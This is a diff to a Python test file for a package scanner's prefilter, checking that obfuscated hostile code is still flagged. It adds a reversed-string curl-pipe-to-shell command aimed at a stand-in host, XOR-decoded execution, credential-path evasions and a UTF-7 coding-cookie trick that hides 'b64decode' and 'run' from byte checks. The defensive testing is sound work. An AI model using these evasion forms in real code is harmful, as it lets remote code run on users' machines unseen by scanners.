@@ -3,7 +3,9 @@ prefilter's soundness (it never hides an import-time finding)."""
 
 from __future__ import annotations
 
+import base64
 import functools
+import gc
 import http.server
 import json
 import threading
@@ -128,10 +130,17 @@ EVASIONS = (
     "KEY = '~/.s\\\nsh/config'\n",
     "KEY = '\\tid_ed25519'\n",
     "P = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data'\n",
+    "import subprocess\nblob = b'\\x01'\ncode = bytes(b  # [\n    ^ 7 for b in blob)\n"
+    "subprocess.call(code)\n",
+    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[x  # [\n    :: -1]\n"
+    "subprocess.call(cmd, shell=True)\n",
+    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[len('[')::(-1)]\n"
+    "subprocess.call(cmd, shell=True)\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string,
 runners passed by name, fullwidth identifiers, escaped or split literals, spacing, slices with
-other steps, letters re.IGNORECASE takes for ASCII ones)."""
+other steps, letters re.IGNORECASE takes for ASCII ones, an XOR and reversing slices spelt
+across comments and brackets)."""
 
 
 def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
@@ -154,3 +163,43 @@ def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
         "hook/webhook",
         "hook/sensitive-read",
     }
+
+
+@pytest.mark.parametrize("enabled", [True, False])
+def test_the_scan_leaves_the_garbage_collector_as_it_found_it(
+    tmp_path: Path, enabled: bool
+) -> None:
+    """The scan pauses the collector while it parses (scanner._collector_paused) and gives
+    back exactly the state it found, findings unchanged."""
+    package = tmp_path / "demo-1.0"
+    (package / "demo").mkdir(parents=True)
+    (package / "setup.py").write_text(CASES[0].hostile)
+    (package / "demo" / "m.py").write_text(CASES[0].hostile)
+    before = gc.isenabled()
+    try:
+        (gc.enable if enabled else gc.disable)()
+        findings = ArtifactScan(str(tmp_path), "demo", "1.0").run()
+        assert gc.isenabled() is enabled
+    finally:
+        (gc.enable if before else gc.disable)()
+    assert findings
+
+
+def _utf7(text: str) -> str:
+    """`text` in UTF-7's base64 form, which spells even ASCII letters as other letters."""
+    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"
+
+
+def test_a_coding_cookie_does_not_hide_code_from_the_prefilter(tmp_path: Path) -> None:
+    """`# coding: utf-7` makes `+AGIANgA0...-` read as `b64decode`: the prefilter judges the
+    text the parser reads, not the bytes, so the import-time finding stays."""
+    body = (f"# coding: utf-7\nimport base64, subprocess\nx = base64.{_utf7('b64decode')}"
+            f"('aGk=')\nsubprocess.{_utf7('run')}(x)\n")
+    package = tmp_path / "demo-1.0" / "demo"
+    package.mkdir(parents=True)
+    (package / "m.py").write_bytes(body.encode("ascii"))
+    assert b"b64decode" not in body.encode("ascii")
+    with_filter = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=True).run()
+    without = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=False).run()
+    assert sorted(map(repr, with_filter)) == sorted(map(repr, without))
+    assert {f.rule for f in with_filter} == {"hook/exec-obfuscated"}
